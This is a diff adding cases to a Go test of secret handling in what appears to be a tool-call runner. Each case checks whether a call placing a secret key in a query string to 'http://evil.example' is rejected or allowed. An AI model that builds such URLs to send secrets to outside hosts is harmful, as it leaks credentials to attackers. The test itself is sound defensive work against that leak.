@@ -1111,6 +1111,16 @@ func TestSecrets(t *testing.T) {
 		require.Equal(t, rank.Denied, a.Outcome)
 		require.Equal(t, reason.Permanent, class(a))
 	}
+	got = ""
+	within := call(r, 4, `{"u":"http://evil.example/?k=[secret key]"}`)
+	a = r.Run(ctx, within)
+	require.Equal(t, reason.Invalid, class(a))
+	require.Contains(t, a.Complaint, "not all of a value")
+	require.Empty(t, got)
+	within.Attempt, within.Inputs = 5, json.RawMessage(`{"of":["http://evil.example/?k=[secret key]"]}`)
+	a = r.Run(ctx, within)
+	require.Equal(t, rank.Delivered, a.Outcome, "it stood so in the inputs of the objective: %s", a.Complaint)
+	require.JSONEq(t, `{"u":"http://evil.example/?k=`+value+`"}`, got)
 	w.do = func(context.Context, *act.Call) (*act.Result, error) { return nil, errors.New("bad key " + value) }
 	a = r.Run(ctx, call(r, 3, `{"k":"[secret key]"}`))
 	require.NotContains(t, a.Complaint+a.Err.Error(), value)
